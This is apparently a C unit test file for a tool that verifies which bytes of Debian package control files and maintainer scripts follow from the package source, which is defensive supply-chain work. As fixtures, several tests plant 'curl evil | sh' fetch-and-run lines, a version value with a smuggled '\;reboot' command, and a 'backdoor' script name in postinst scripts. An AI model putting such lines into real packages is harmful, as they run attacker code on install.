/*
 * Rungs for files that Debian's tools re-make: what follows from the source is claimed, what was planted stays, to the byte.
 */
#include "base/buf.h"
#include "format/text/po.h"
#include "match_fixture.h"

static void assert_explained(struct pl_file *f)
{
    uint64_t offset;
    uint64_t length;
    if (pl_ledger_gap(&f->ledger, 0, &offset, &length))
        fail_msg("unexplained: %.*s", (int)length, (const char *)f->data.p + offset);
}

/* All but exactly one place where `text` stands. */
static void assert_only_gap(struct pl_file *f, const char *text)
{
    uint64_t offset;
    uint64_t length;
    assert_true(pl_ledger_gap(&f->ledger, 0, &offset, &length));
    assert_int_equal(offset, pl_bytes_find(f->data, pl_bytes_of_str(text), 0));
    assert_int_equal(length, strlen(text));
    assert_false(pl_ledger_gap(&f->ledger, offset + length, &offset, &length));
}

static void sums_of_the_files_that_are_there_are_made_again(void **state)
{
    add_file("data.tar.xz!/usr/bin/x", "hello\n");
    struct pl_file *f = add_file("control.tar.xz!/md5sums", "b1946ac92492d2347c6235b4d2611184  usr/bin/x\n");
    apply("debian.md5sums", f);
    assert_explained(f);
    assert_int_equal(f->findings.list.n, 0);
}

static void a_sum_of_other_bytes_is_a_finding_at_its_line(void **state)
{
    add_file("data.tar.xz!/usr/bin/x", "hello!\n");
    add_file("data.tar.xz!/usr/bin/y", "hello\n");
    struct pl_file *f = add_file("control.tar.xz!/md5sums", "b1946ac92492d2347c6235b4d2611184  usr/bin/y\n"
                                                            "b1946ac92492d2347c6235b4d2611184  usr/bin/x\n");
    apply("debian.md5sums", f);
    assert_only_gap(f, "b1946ac92492d2347c6235b4d2611184  usr/bin/x\n");
    assert_int_equal(f->findings.list.n, 1);
    assert_string_equal(f->findings.list.v[0].tag, "pkg.md5sums-mismatch");
    assert_int_equal(f->findings.list.v[0].offset, 44);
}

static void a_member_of_a_nested_archive_lends_its_sum_to_nobody(void **state)
{
    add_file("data.tar.xz!/a.zip!/usr/bin/x", "hello\n");
    files[0].name = PL_LIT("usr/bin/x");
    struct pl_file *f = add_file("control.tar.xz!/md5sums", "b1946ac92492d2347c6235b4d2611184  usr/bin/x\n");
    apply("debian.md5sums", f);
    assert_int_equal(f->findings.list.n, 1);
}

static void conffiles_are_files_below_etc(void **state)
{
    add_file("data.tar.xz!/etc/x", "1\n");
    struct pl_file *f = add_file("control.tar.xz!/conffiles", "/etc/x\n/etc/y\n");
    apply("debian.conffiles", f);
    assert_only_gap(f, "/etc/y\n");
}

#define CONTROL_HEAD "Package: p-bin\nSource: p\nVersion: 1-2\nArchitecture: amd64\nMaintainer: M <m@x>\n"

static void a_control_file_follows_from_its_source(void **state)
{
    struct pl_file *f = add_file("control.tar.xz!/control", CONTROL_HEAD
                                 "Installed-Size: 3\nDepends: libc6 (>= 2.34), base, other (= 1-2)\n"
                                 "Suggests: doc\nSection: utils\nDescription: short\n long\n");
    add_file("data.tar.xz!/usr/x", "1\n");
    add_file("data.tar.xz!/usr/y", "2\n");
    apply("debian.control", f);
    assert_only_gap(f, "Installed-Size: 3\n");
    apply("debian.installed-size", f);
    assert_explained(f);
}

static void an_added_field_stays_unaccounted(void **state)
{
    struct pl_file *f = add_file("control.tar.xz!/control", CONTROL_HEAD "Essential: yes\nSection: utils\n");
    apply("debian.control", f);
    assert_only_gap(f, "Essential: yes\n");
}

static void an_added_relation_stays_where_no_variable_stands(void **state)
{
    struct pl_file *f =
        add_file("control.tar.xz!/control", CONTROL_HEAD "Suggests: evil, doc\nSection: utils\n");
    apply("debian.control", f);
    assert_only_gap(f, "evil,");
}

static void another_version_stays_unaccounted(void **state)
{
    struct pl_file *f = add_file("control.tar.xz!/control", "Package: p-bin\nVersion: 1-3\n");
    apply("debian.control", f);
    assert_only_gap(f, "Version: 1-3\n");
}

static void a_rebuild_keeps_the_source_version(void **state)
{
    struct pl_file *f =
        add_file("control.tar.xz!/control", "Package: p-bin\nSource: p (1-2)\nVersion: 1-2+b3\n");
    apply("debian.control", f);
    assert_explained(f);
}

static void a_trimmed_changelog_is_the_front_of_the_whole(void **state)
{
    const char *text = pl_arena_printf(&arena,
                                       "%.*s# Older entries have been removed from this changelog.\n"
                                       "# To read the complete changelog use `apt changelog p-bin`.\n",
                                       (int)(strstr(changelog, "p (1-1)") - changelog), changelog);
    struct pl_file *f =
        add_file("data.tar.xz!/usr/share/doc/p-bin/changelog.Debian.gz!/changelog.Debian", text);
    apply("debian.changelog", f);
    assert_explained(f);
}

#define REBUILD(text)                                                                                        \
    "p (1-2+b1) sid; urgency=low, binary-only=yes\n\n  * Binary-only non-maintainer upload for amd64; no "   \
    "source changes.\n"                                                                                      \
    "  * Rebuild\n\n" text " -- B <b@x>  Wed, 03 Jan 2024 00:00:00 +0000\n"

static void the_entry_of_a_rebuild_has_one_shape(void **state)
{
    struct pl_file *f =
        add_file("data.tar.xz!/usr/share/doc/p-bin/changelog.Debian.amd64.gz!/changelog", REBUILD(""));
    struct pl_file *g = add_file("data.tar.xz!/usr/share/doc/p-bin/changelog.Debian.amd64.gz!/changelog",
                                 REBUILD("  * And a payload.\n\n"));
    apply("debian.changelog", f);
    assert_explained(f);
    apply("debian.changelog", g);
    assert_int_equal(pl_ledger_unclaimed(&g->ledger), g->size);
}

static void a_changed_entry_of_a_changelog_is_left_to_other_rungs(void **state)
{
    char *text = pl_arena_str(&arena, pl_bytes_of_str(changelog));
    text[strlen(text) - 10] = 'X';
    struct pl_file *f = add_file("data.tar.xz!/usr/share/doc/p-bin/changelog.gz!/changelog", text);
    apply("debian.changelog", f);
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), f->size);
}

static void add_scripts(void)
{
    add_source(0, "debian/p-bin.postinst", "#!/bin/sh\nset -e\necho own\n#DEBHELPER#\nexit 0\n");
    add_source(0, "debian/rules", "dh_installinit --name=unit\n");
    add_source(
        1, "data.tar.xz!/usr/share/debhelper/autoscripts/postinst-init",
        "if [ -x \"/etc/init.d/#SCRIPT#\" ]; then\n\tinvoke-rc.d #SCRIPT# start || #ERROR_HANDLER#\nfi\n");
}

#define BLOCK(script, handler)                                                                               \
    "# Automatically added by dh_installinit/13.11.4\nif [ -x \"/etc/init.d/" script                         \
    "\" ]; then\n\tinvoke-rc.d " script " start || " handler "\nfi\n# End automatically added section\n"

static void a_script_is_the_sources_with_blocks_filled_in(void **state)
{
    add_scripts();
    struct pl_file *f = add_file("control.tar.xz!/postinst",
                                 "#!/bin/sh\nset -e\necho own\n" BLOCK("unit", "exit 1") "\nexit 0\n");
    apply("debian.debhelper", f);
    assert_explained(f);
}

/* What dh_installdeb makes of "rm_conffile /etc/unit.conf 6.3+svn4-2~" in debian/p-bin.maintscript. */
static struct pl_file *script_of_version(const char *version)
{
    add_source(0, "debian/p-bin.maintscript", "rm_conffile /etc/unit.conf 6.3+svn4-2~\n");
    add_source(1, "data.tar.xz!/usr/share/debhelper/autoscripts/maintscript-helper",
               "dpkg-maintscript-helper #PARAMS# -- \"$@\"\n");
    struct pl_file *f =
        add_file("control.tar.xz!/preinst",
                 pl_arena_printf(&arena,
                                 "#!/bin/sh\nset -e\n# Automatically added by dh_installdeb/13.11.4\n"
                                 "dpkg-maintscript-helper rm_conffile /etc/unit.conf %s -- \"$@\"\n"
                                 "# End automatically added section\n",
                                 version));
    apply("debian.debhelper", f);
    return f;
}

static void a_version_may_be_escaped_for_the_shell(void **state)
{
    assert_explained(script_of_version("6.3\\+svn4-2\\~"));
}

static void another_version_or_an_escaped_letter_stays(void **state)
{
    uint64_t offset;
    uint64_t length;
    static const char *const others[] = {"6.3\\+svn5-2\\~", "6.3\\+sv\\n4-2\\~", "6.3\\+svn4-2\\~\\;reboot"};
    for (size_t i = 0; i < sizeof others / sizeof others[0]; i++) {
        struct pl_file *f = script_of_version(others[i]);
        assert_true(pl_ledger_gap(&f->ledger, 0, &offset, &length));
        tear_down(state);
        assert_int_equal(set_up(state), 0);
    }
}

/* vdr brings dh_vdrplugin_enable and its templates in vdr-dev, and has plugins of its own. */
static struct pl_file *script_of_own_template(const char *install)
{
    add_source(0, "debian/rules", "dh_plug hello.conf\n");
    add_source(0, "debian/addon/postinst-plug", "plug_it() {\n  ln -s \"$1\"\n}\nplug_it #CONFS#\n");
    add_source(0, "debian/p-dev.install", install);
    struct pl_file *f = add_file(
        "control.tar.xz!/postinst",
        "#!/bin/sh\nset -e\n# Automatically added by dh_plug/UNDECLARED\nplug_it() {\n  ln -s \"$1\"\n}\n"
        "plug_it hello.conf\n# End automatically added section\n");
    apply("debian.debhelper", f);
    return f;
}

static void a_template_of_the_source_itself_is_one(void **state)
{
    assert_explained(
        script_of_own_template("debian/addon/postinst-plug* usr/share/debhelper/autoscripts/\n"));
}

/* For each of them all files were looked through, for each block: 4 * 10^10 names. */
static void many_files_that_may_be_templates_are_asked_once_what_they_are_for(void **state)
{
    struct pl_buf script;
    (void)state;
    pl_buf_init(&script, 1u << 20);
    pl_buf_add_str(&script, "#!/bin/sh\nset -e\n");
    for (unsigned i = 0; i < 100; i++)
        pl_buf_add_str(&script,
                       "# Automatically added by dh_plug/1\nnone\n# End automatically added section\n");
    pl_buf_add_byte(&script, 0);
    for (unsigned i = 0; i < 20000; i++)
        add_source(0, pl_arena_printf(&arena, "debian/postinst-%u", i), "some\n");
    add_source(0, "debian/p-dev.install", "debian/x usr/share/debhelper/autoscripts/\n");
    struct pl_file *f = add_file("control.tar.xz!/postinst", (const char *)script.p);
    apply("debian.debhelper", f);
    assert_true(pl_ledger_unclaimed(&f->ledger) > f->size / 2);
    pl_buf_reset(&script);
}

/* It stood before each text that was looked up: 200 MB for these. */
static void a_language_without_end_is_none(void **state)
{
    struct pl_buf text;
    (void)state;
    pl_buf_init(&text, 4u << 20);
    pl_buf_add_str(&text, "Template: p/q\nDescription-");
    for (unsigned i = 0; i < 1u << 20; i++)
        pl_buf_add_byte(&text, 'x');
    pl_buf_add_str(&text, ".UTF-8: Really?\n");
    for (unsigned i = 0; i < 200; i++)
        pl_buf_add_str(&text, " x\n");
    assert_int_equal(text.why, PL_OK);
    add_source(0, "debian/p-bin.templates", "Template: p/q\n");
    struct pl_file *f = add_bytes("control.tar.xz!/templates", pl_buf_bytes(&text));
    apply("debian.templates", f);
    assert_int_equal(scratch.why, PL_OK);
    assert_int_equal(f->size - pl_ledger_unclaimed(&f->ledger), strlen("Template: p/q\n"));
    pl_buf_reset(&text);
}

static void a_file_that_is_no_template_explains_no_block(void **state)
{
    assert_only_gap(script_of_own_template("debian/addon/postinst-plug usr/share/doc/p/\n"),
                    "# Automatically added by dh_plug/UNDECLARED\nplug_it() {\n  ln -s \"$1\"\n}\n"
                    "plug_it hello.conf\n# End automatically added section\n");
}

static void a_line_planted_in_a_script_stays(void **state)
{
    add_scripts();
    struct pl_file *f =
        add_file("control.tar.xz!/postinst",
                 "#!/bin/sh\nset -e\ncurl evil | sh\necho own\n" BLOCK("unit", "exit 1") "\nexit 0\n");
    apply("debian.debhelper", f);
    assert_only_gap(f, "curl evil | sh\n");
}

static void a_line_planted_in_a_block_leaves_the_block(void **state)
{
    add_scripts();
    static const char planted[] =
        "# Automatically added by dh_installinit/13.11.4\ncurl evil | sh\n"
        "if [ -x \"/etc/init.d/unit\" ]; then\n\tinvoke-rc.d unit start || exit 1\nfi\n"
        "# End automatically added section\n";
    struct pl_file *f = add_file("control.tar.xz!/postinst",
                                 pl_arena_printf(&arena, "#!/bin/sh\nset -e\necho own\n%sexit 0\n", planted));
    apply("debian.debhelper", f);
    assert_only_gap(f, planted);
}

static void a_value_that_runs_something_stays(void **state)
{
    add_scripts();
    struct pl_file *f = add_file("control.tar.xz!/postinst",
                                 "#!/bin/sh\nset -e\necho own\n" BLOCK("unit", "curl evil|sh") "exit 0\n");
    apply("debian.debhelper", f);
    assert_only_gap(f, "curl evil|sh");
}

static void a_value_unknown_to_the_source_stays(void **state)
{
    add_scripts();
    struct pl_file *f = add_file("control.tar.xz!/postinst",
                                 "#!/bin/sh\nset -e\necho own\n" BLOCK("backdoor", "exit 1") "exit 0\n");
    apply("debian.debhelper", f);
    uint64_t offset;
    uint64_t length;
    assert_true(pl_ledger_gap(&f->ledger, 0, &offset, &length));
    assert_memory_equal(f->data.p + offset, "backdoor", 8);
    assert_int_equal(length, 8);
}

static void a_script_without_a_source_is_debhelpers_two_lines(void **state)
{
    add_scripts();
    struct pl_file *f = add_file("control.tar.xz!/prerm", "#!/bin/sh\nset -e\necho planted\n");
    apply("debian.debhelper", f);
    assert_only_gap(f, "echo planted\n");
}

static void shlibs_name_a_library_of_the_package(void **state)
{
    add_file("data.tar.xz!/usr/lib/libp.so.1", "");
    struct pl_file *f =
        add_file("control.tar.xz!/shlibs", "libp 1 p-bin (>= 1)\nlibq 1 p-bin\nlibp 1 foreign\n");
    apply("debian.shlibs", f);
    assert_only_gap(f, "libq 1 p-bin\nlibp 1 foreign\n");
}

/* dh_makeshlibs -V "p-bin (>= 1), p-abi-22": what the package itself provides. */
static void shlibs_may_name_what_the_package_provides(void **state)
{
    (void)state;
    add_file("data.tar.xz!/usr/lib/libp.so.1", "");
    add_file("control.tar.xz!/control", "Package: p-bin\nProvides: other (= 1), p-abi-22\nDescription: p\n");
    struct pl_file *f =
        add_file("control.tar.xz!/shlibs", "libp 1 p-bin (>= 1), p-abi-22\nlibp 1 p-bin, p-abi-23\n"
                                           "libp 1 p-abi-22, foreign\n");
    apply("debian.shlibs", f);
    assert_only_gap(f, "libp 1 p-bin, p-abi-23\nlibp 1 p-abi-22, foreign\n");
}

static void the_ldconfig_trigger_needs_a_library(void **state)
{
    static const char text[] = "# Triggers added by dh_makeshlibs/13.11.4\nactivate-noawait ldconfig\n";
    struct pl_file *f = add_file("control.tar.xz!/triggers", text);
    apply("debian.triggers", f);
    assert_only_gap(f, "activate-noawait ldconfig\n");
    add_file("data.tar.xz!/usr/lib/libp.so.1", "");
    struct pl_file *g = add_file("control.tar.xz!/triggers", text);
    apply("debian.triggers", g);
    assert_explained(g);
}

static void the_initramfs_trigger_needs_a_hook(void **state)
{
    static const char text[] = "activate-noawait update-initramfs\n";
    add_file("data.tar.xz!/usr/share/doc/initramfs-tools/p", "");
    struct pl_file *f = add_file("control.tar.xz!/triggers", text);
    apply("debian.triggers", f);
    assert_only_gap(f, text);
    add_file("data.tar.xz!/usr/share/initramfs-tools/hooks/p", "");
    struct pl_file *g = add_file("control.tar.xz!/triggers", text);
    apply("debian.triggers", g);
    assert_explained(g);
}

static void symbols_lose_their_tags(void **state)
{
    add_source(0, "debian/p-bin.symbols",
               "libp.so.1 p-bin #MINVER#\n (arch=amd64|optional)f@Base 1.0 1\n g@Base 1.1\n"
               " (c++)\"n::q(int, char)@Base\" 5.37.0\n (regex)\"^.*@PRIVATE$\" 0 1\n");
    struct pl_file *f =
        add_file("control.tar.xz!/symbols",
                 "libp.so.1 p-bin #MINVER#\n f@Base 1.0\n g@Base 1.1\n _ZN1n1qEic@Base 5.37.0\n"
                 " _ZN1r1sEv@PRIVATE 0 1\n h@Base 9\n");
    apply("debian.symbols", f);
    assert_only_gap(f, " h@Base 9\n");
}

static void templates_are_the_sources_with_its_translations(void **state)
{
    add_source(0, "debian/p-bin.templates",
               "Template: p/q\nType: boolean\n_Description: Really?\n Think\n twice.\n");
    add_source(0, "debian/po/de.po",
               "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=UTF-8\\n\"\n\nmsgid \"Really?\"\n"
               "msgstr \"Wirklich?\"\n\nmsgid \"Think twice.\"\nmsgstr \"Denk \"\n\"nach.\"\n");
    struct pl_file *f = add_file("control.tar.xz!/templates",
                                 "Template: p/q\nType: boolean\nDescription: Really?\n Think\n twice.\n"
                                 "Description-de.UTF-8: Wirklich?\n Denk nach.\n Zahl jetzt.\n");
    apply("debian.templates", f);
    assert_only_gap(f, " Zahl jetzt.\n");
}

/* po2debconf believes the header: UTF-8 under another name comes out twice. */
static void translations_are_recoded_as_their_header_says(void **state)
{
    add_source(0, "debian/p-bin.templates", "Template: p/q\nType: boolean\n_Description: Really?\n");
    add_source(0, "debian/po/de.po",
               "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=ISO-8859-1\\n\"\n\nmsgid \"Really?\"\n"
               "msgstr \"f\xfcr\"\n");
    add_source(
        0, "debian/po/fr.po",
        "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=ISO-8859-15\\n\"\n\nmsgid \"Really?\"\n"
        "msgstr \"\xc3\xa9 \xa4\"\n");
    add_source(0, "debian/po/cs.po",
               "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=ISO-8859-2\\n\"\n\nmsgid \"Really?\"\n"
               "msgstr \"p\xf8\xc4\x9b\"\n");
    struct pl_file *f =
        add_file("control.tar.xz!/templates", "Template: p/q\nType: boolean\nDescription: Really?\n"
                                              "Description-de.UTF-8: f\xc3\xbcr\n"
                                              "Description-fr.UTF-8: \xc3\x83\xc2\xa9 \xe2\x82\xac\n"
                                              "Description-cs.UTF-8: p\xc5\x99\xc3\x84\xc2\x9b\n"
                                              "Description-de.UTF-8: f\xfcr\n");
    apply("debian.templates", f);
    assert_only_gap(f, "Description-de.UTF-8: f\xfcr\n");
}

static void only_the_known_format_of_a_deb_is_made_again(void **state)
{
    struct pl_file *f = add_file("debian-binary", "2.0\n");
    struct pl_file *g = add_file("debian-binary", "2.1\n");
    apply("debian.binary-version", f);
    apply("debian.binary-version", g);
    assert_explained(f);
    assert_only_gap(g, "2.1\n");
}

static const char po_text[] =
    "msgid \"\"\nmsgstr \"Content-Type: text/plain; charset=UTF-8\\n\"\n\nmsgid \"open\"\n"
    "msgstr \"auf\"\n\nmsgid \"close\"\nmsgstr \"zu\"\n";
#define MO_PATH "data.tar.xz!/usr/share/locale/de/LC_MESSAGES/p.mo"

static pl_bytes compile_po(void)
{
    struct pl_po po;
    struct pl_buf out;
    pl_buf_init(&out, 1 << 20);
    assert_int_equal(pl_po_parse(pl_bytes_of_str(po_text), &arena, &po, &err), PL_OK);
    assert_int_equal(pl_po_compile(&po, true, true, &arena, &out, &err), PL_OK);
    pl_bytes mo = pl_arena_keep(&arena, pl_buf_bytes(&out));
    pl_buf_reset(&out);
    pl_po_reset(&po);
    return mo;
}

static void a_catalogue_is_made_again_from_its_language(void **state)
{
    add_source(0, "po/de.po", po_text);
    struct pl_file *f = add_bytes(MO_PATH, compile_po());
    apply("gettext.mo", f);
    assert_explained(f);
    assert_int_equal(f->ledger.settled.v[0].class, PL_CLASS_GENERATED);
}

static void a_changed_translation_stays(void **state)
{
    add_source(0, "po/de.po", po_text);
    pl_bytes mo = compile_po();
    size_t at = pl_bytes_find(mo, PL_LIT("auf"), 0);
    ((uint8_t *)(uintptr_t)mo.p)[at] = 'A';
    struct pl_file *f = add_bytes(MO_PATH, mo);
    apply("gettext.mo", f);
    uint64_t offset;
    uint64_t length;
    assert_true(pl_ledger_gap(&f->ledger, 0, &offset, &length));
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), 5 + 4); /* "open" and its text, each with NUL */
}

static void a_catalogue_of_another_language_explains_nothing(void **state)
{
    add_source(0, "po/fr.po", po_text);
    struct pl_file *f = add_bytes(MO_PATH, compile_po());
    apply("gettext.mo", f);
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), f->size);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(sums_of_the_files_that_are_there_are_made_again),
        TEST(a_sum_of_other_bytes_is_a_finding_at_its_line),
        TEST(a_member_of_a_nested_archive_lends_its_sum_to_nobody),
        TEST(conffiles_are_files_below_etc),
        TEST(a_control_file_follows_from_its_source),
        TEST(an_added_field_stays_unaccounted),
        TEST(an_added_relation_stays_where_no_variable_stands),
        TEST(another_version_stays_unaccounted),
        TEST(a_rebuild_keeps_the_source_version),
        TEST(a_trimmed_changelog_is_the_front_of_the_whole),
        TEST(the_entry_of_a_rebuild_has_one_shape),
        TEST(a_changed_entry_of_a_changelog_is_left_to_other_rungs),
        TEST(a_script_is_the_sources_with_blocks_filled_in),
        TEST(a_line_planted_in_a_script_stays),
        TEST(a_template_of_the_source_itself_is_one),
        TEST(many_files_that_may_be_templates_are_asked_once_what_they_are_for),
        TEST(a_language_without_end_is_none),
        TEST(a_file_that_is_no_template_explains_no_block),
        TEST(a_line_planted_in_a_block_leaves_the_block),
        TEST(a_version_may_be_escaped_for_the_shell),
        TEST(another_version_or_an_escaped_letter_stays),
        TEST(a_value_that_runs_something_stays),
        TEST(a_value_unknown_to_the_source_stays),
        TEST(a_script_without_a_source_is_debhelpers_two_lines),
        TEST(shlibs_name_a_library_of_the_package),
        TEST(shlibs_may_name_what_the_package_provides),
        TEST(the_ldconfig_trigger_needs_a_library),
        TEST(symbols_lose_their_tags),
        TEST(templates_are_the_sources_with_its_translations),
        TEST(translations_are_recoded_as_their_header_says),
        TEST(the_initramfs_trigger_needs_a_hook),
        TEST(a_catalogue_is_made_again_from_its_language),
        TEST(a_changed_translation_stays),
        TEST(a_catalogue_of_another_language_explains_nothing),
        TEST(only_the_known_format_of_a_deb_is_made_again),
    };
    return cmocka_run_group_tests_name("match_debian", tests, NULL, NULL);
}
